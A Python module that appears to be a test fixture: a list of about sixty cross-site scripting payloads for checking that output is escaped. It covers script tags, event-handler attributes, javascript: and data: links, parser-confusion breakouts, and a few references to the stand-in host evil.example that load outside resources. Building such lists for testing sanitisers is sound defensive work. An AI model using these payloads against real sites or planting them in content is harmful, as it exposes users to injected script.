"""Sixty texts that are programs where they are not escaped. Each would call `alert` or ask an address for something."""

from __future__ import annotations

_CALL = "alert(1)"
MARKUP = [
    f"<script>{_CALL}</script>", f"<ScRiPt>{_CALL}</sCrIpT>", f"</script><script>{_CALL}</script>", f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>", f"</style><script>{_CALL}</script>", f"--><script>{_CALL}</script>", f"]]><script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>", f"<img/src/onerror={_CALL}>", f"<svg onload={_CALL}>", f"<svg/onload={_CALL}//", f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}>x", f"<video><source onerror={_CALL}>", f"<audio src=x onerror={_CALL}>", f"<input autofocus onfocus={_CALL}>",
    f"<iframe srcdoc='<script>{_CALL}</script>'>", "<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<form action=javascript:alert(1)><button>x</form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>", f"<svg><style><img src=x onerror={_CALL}></style>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_CALL}>\">", f"<template><script>{_CALL}</script></template>",
    f"<marquee onstart={_CALL}>", f"<svg><animate onbegin={_CALL} attributeName=x>", f"<link rel=stylesheet href=x onerror={_CALL}>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>", "<style>@import'//evil.example/x'</style>",
    f"<xmp><p title=\"</xmp><svg/onload={_CALL}>\">",
]  # fmt: skip
ATTRIBUTES = [
    f'"><img src=x onerror={_CALL}>', f"'><img src=x onerror={_CALL}>", f'" onmouseover={_CALL} x="', f"' onfocus={_CALL} autofocus x='",
    f'" autofocus onfocus="{_CALL}', f"` onclick={_CALL} `", f'x" style="animation-name:x" onanimationstart="{_CALL}', f"\" tabindex=1 onfocus={_CALL}//",
]  # fmt: skip
SCRIPTS = [
    f"');{_CALL};('", f'");{_CALL};("', f"\\');{_CALL};//", f"\u2028{_CALL}//", f"${{{_CALL}}}", f"`;{_CALL};`", f"'-{_CALL}-'", f'"-{_CALL}-"',
    f"\\u003cscript>{_CALL}</script>", f"</script/x><svg onload={_CALL}>",
]  # fmt: skip
LINKS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)",
    "//evil.example/x", "[x](javascript:alert(1))", "![x](//evil.example/p.gif)",
]  # fmt: skip
PAYLOADS = [*MARKUP, *ATTRIBUTES, *SCRIPTS, *LINKS]
